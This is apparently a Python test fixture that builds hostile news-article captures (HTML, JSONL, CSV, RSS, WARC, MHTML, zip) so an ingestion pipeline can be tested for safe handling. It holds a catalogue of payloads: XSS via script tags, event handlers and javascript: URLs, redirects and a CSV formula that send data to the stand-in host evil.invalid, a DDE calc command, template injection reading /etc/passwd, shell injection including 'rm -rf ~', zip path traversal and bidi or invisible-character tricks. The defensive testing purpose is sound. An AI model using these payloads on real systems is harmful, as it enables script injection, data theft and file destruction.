"""Captures of our own making that try to run, load, hide, break out or be taken for a formula, one way each.

Whatever runs sets ``window.__owned``, opens a dialog or asks the host ``evil.invalid`` for something: the browser tests watch for
all three. The same tricks stand in texts, where they are words like any others and must be shown as such.
"""

from __future__ import annotations

import csv
import html
import io
import json
import zipfile
from pathlib import Path

from warcio.statusandheaders import StatusAndHeaders
from warcio.warcwriter import WARCWriter

from tests.press import article

EVIL = "evil.invalid"
OWN = "window.__owned=1;alert(1)"

TRICKS = {
    "script": f"<script>{OWN}</script>",
    "handler": f'<img src="http://{EVIL}/p.png" onerror="{OWN}" onload="{OWN}">',
    "svg": f'<svg onload="{OWN}"><animate onbegin="{OWN}" attributeName="x" dur="1s"/><script>{OWN}</script></svg>',
    "quote": f'" onmouseover="{OWN}" autofocus onfocus="{OWN}" x="',
    "apostrophe": f"' onfocus='{OWN}' autofocus tabindex='0",
    "closing": f"</title></textarea></style></script>--><script>{OWN}</script>",
    "style": f"<style>@import url(http://{EVIL}/x.css); body {{ background: url(http://{EVIL}/b.png) }}</style>",
    "refresh": f'<meta http-equiv="refresh" content="0;url=http://{EVIL}/">',
    "frame": f'<iframe srcdoc="<script>parent.{OWN}</script>" src="http://{EVIL}/f.html"></iframe>',
    "base": f'<base href="http://{EVIL}/"><form action="http://{EVIL}/"><button>Send</button></form>',
    "link": f'<a href="javascript:{OWN}" ping="http://{EVIL}/">here</a>',
    "data": f'<object data="data:text/html,<script>{OWN}</script>"></object><embed src="http://{EVIL}/e.swf">',
    "template": "{{ 7*7 }}{% include '/etc/passwd' %}${7*7}<%= 7*7 %>",
    "htmx": f'<p hx-get="http://{EVIL}/" hx-trigger="load" hx-on:load="{OWN}" data-src="http://{EVIL}/">now</p>',
    "formula": f'=HYPERLINK("http://{EVIL}/?"&A1,"open")',
    "command": "@SUM(1+1)*cmd|' /C calc'!A0",
    "terminal": f"\x1b]0;owned\x07\x1b[2J\x1b[31mred\x1b[0m\x1b]8;;http://{EVIL}/\x1b\\link\x1b]8;;\x1b\\\x9b31m",
    "bidi": "the \u202egnidliub\u202c was \u2067safe\u2069 and \u2066sound\u2069",
    "unseen": "no\u200bbody\u2060 saw\ufeff it\u200d, \u00adnot\U000e0041\U000e0042 one\u3164",
    "latex": "$(touch owned)`touch owned`; rm -rf ~ \\input{/etc/passwd} ![x](http://evil.invalid/m.png)",
}
"""What is tried, by name."""

MARKUP = tuple(trick for trick in TRICKS.values() if "<" in trick)


def story(number: int, *tricks: str) -> list[str]:
    """The paragraphs of an article with tricks in the middle of what a reader would want to know; no two are alike."""
    first, *rest = article(number).strip().split("\n\n")
    first = first.partition(" date ")[2][11:]
    told = [
        " ".join([*words[:6], tricks[i % len(tricks)], *words[6:]])
        for i, words in enumerate(map(str.split, [first, *rest]))
    ]
    place, day = ("Geneva", "Vienna", "Texas", "Ukraine", "Kyiv")[number % 5], number % 27 + 1
    return [
        f"At least {number + 11} people {tricks[0]} were hurt in {place} on {day} March 2024, Mayor Ilse Brandt said.",
        *told,
        f"The council of {place} will vote on it {tricks[-1]} on {day} April 2024.",
    ]


def folder(at: Path) -> Path:
    """A folder with all of them, in every format that can be taken in."""
    at.mkdir(parents=True)
    tricks = list(TRICKS.values())
    for number in range(0, len(tricks), 2):
        (at / f"page{number}.html").write_text(_page(number, *tricks[number : number + 2]), encoding="utf-8")
    for number in range(0, len(tricks), 5):
        (at / f"scrape{number}.txt").write_bytes(_scrape(100 + number, *tricks[number : number + 5]).encode())
    rows = [_row(number, *tricks[5 * number :], *tricks) for number in range(4)]
    (at / "dump.jsonl").write_text("".join(json.dumps(row) + "\n" for row in rows), encoding="utf-8")
    (at / "dump.csv").write_text(
        _table([_row(50 + n, *tricks[5 * n + 2 :], *tricks) for n in range(4)]), encoding="utf-8"
    )
    (at / "feed.xml").write_text(_feed(), encoding="utf-8")
    (at / "crawl.warc").write_bytes(_warc(500))
    (at / "saved.mhtml").write_bytes(_mhtml())
    with zipfile.ZipFile(at / "crawl.wacz", "w") as packed:
        for number, name in enumerate(("archive/data.warc", "../../owned.warc", "/tmp/owned.warc")):
            packed.writestr(name, _warc(600 + 10 * number, 1))
        packed.writestr("../../../etc/owned", "owned")
    # A file's name is a capture's words too.
    for number, name in enumerate(
        ('<img src=x onerror="alert(1)">.txt', "=cmd.txt", "\x1b[31mred.txt", "a\u202etxt.exe")
    ):
        (at / name).write_text(_scrape(800 + number, "as told"), encoding="utf-8")
    return at


def _page(number: int, trick: str, *more: str) -> str:
    """A page that says the trick, escaped, in every field, and besides tries it out."""
    said = html.escape(trick)
    linked = json.dumps(
        {"@type": "NewsArticle", "headline": f"Headline {number} {trick}", "author": {"name": f"Lena {trick}"}}
    ).replace("</", "<\\/")
    return (
        f"<!doctype html><html><head><meta charset=utf-8><title>Flood {number} {said}</title>"
        f'<meta property="og:title" content="Flood {number} {said}"><meta property="og:site_name" content="Herald {said}">'
        f'<meta name="author" content="Lena Okker {said}"><link rel="canonical" href="javascript:{html.escape(OWN)}">'
        f'<meta property="article:published_time" content="2024-03-{number % 27 + 1:02}T08:00:00Z">'
        f'<script type="application/ld+json">{linked}</script></head>'
        f"<body onload='{OWN}' style='background:url(http://{EVIL}/bg.png)'>{trick}<article><h1>Flood {number} {said}</h1>"
        + "".join(f"<p>{html.escape(paragraph)}</p>" for paragraph in story(number, trick, *more))
        + f"</article>{trick}{''.join(more)}<figure><img src='http://{EVIL}/i.png' onerror='{OWN}'><figcaption>{said}</figcaption></figure></body></html>"
    )


def _scrape(number: int, *tricks: str) -> str:
    head = f"Flood {number} {tricks[0]}\n\nBy Lena Okker date 2024-03-{number % 27 + 1:02}\n\n"
    return head + "\n\n".join(story(number, *tricks))


def _row(number: int, *tricks: str) -> dict[str, str]:
    return {
        "title": f"{tricks[0]} Flood {number}",
        "author": f"{tricks[1]} Okker",
        "publisher": f"{tricks[2]} Herald",
        "date": f"2024-03-{number % 27 + 1:02}",
        "url": f"javascript:{OWN}//{number}",
        "text": "\n\n".join(story(200 + number, *tricks[:5])),
    }


def _table(rows: list[dict[str, str]]) -> str:
    out = io.StringIO()
    writer = csv.DictWriter(out, list(rows[0]))
    writer.writeheader()
    writer.writerows({key: value.replace("\x00", "") for key, value in row.items()} for row in rows)
    return out.getvalue()


def _feed() -> str:
    items = "".join(
        f"<item><title>{_xml(f'Flood {400 + number} {trick}')}</title><link>javascript:{html.escape(OWN)}//{number}</link>"
        f"<guid>{_xml(trick)}</guid><author>{_xml(trick)}</author><pubDate>Mon, 04 Mar 2024 08:00:00 GMT</pubDate>"
        f"<description>{_xml(''.join(f'<p>{html.escape(each)}</p>' for each in story(400 + number, trick)) + trick)}</description></item>"
        for number, trick in enumerate(MARKUP[:3])
    )
    return f'<?xml version="1.0"?><rss version="2.0"><channel><title>{_xml(TRICKS["script"])}</title>{items}</channel></rss>'


def _xml(text: str) -> str:
    return html.escape("".join(char for char in text if char >= " " or char in "\t\n"))


def _warc(first: int, records: int = 4) -> bytes:
    out = io.BytesIO()
    writer = WARCWriter(out, gzip=False)
    addresses = (
        f"http://{EVIL}/<script>",
        "javascript:alert(1)",
        "file:///etc/passwd",
        f"http://{EVIL}/../../etc/passwd",
    )
    for number, address in enumerate(addresses[:records]):
        headers = StatusAndHeaders(
            "200 OK", [("Content-Type", "text/html"), ("Refresh", f"0;url=http://{EVIL}/")], protocol="HTTP/1.1"
        )
        payload = _page(first + number, MARKUP[(first + number) % len(MARKUP)]).encode()
        writer.write_record(
            writer.create_warc_record(address, "response", payload=io.BytesIO(payload), http_headers=headers)
        )
    return out.getvalue()


def _mhtml() -> bytes:
    return (
        f"From: <Saved by Blink>\r\nSnapshot-Content-Location: javascript:{OWN}\r\nSubject: {TRICKS['script']}\r\n"
        "Date: Mon, 4 Mar 2024 08:00:00 -0000\r\nMIME-Version: 1.0\r\n"
        'Content-Type: multipart/related; type="text/html"; boundary="b"\r\n\r\n'
        "--b\r\nContent-Type: text/html; charset=utf-8\r\nContent-Location: ../../../../owned.html\r\n\r\n"
        f"{_page(700, TRICKS['handler'])}\r\n"
        "--b\r\nContent-Type: text/css\r\nContent-Location: cid:../../owned.css\r\n\r\n"
        f"@import url(http://{EVIL}/x.css);\r\n--b--\r\n"
    ).encode()
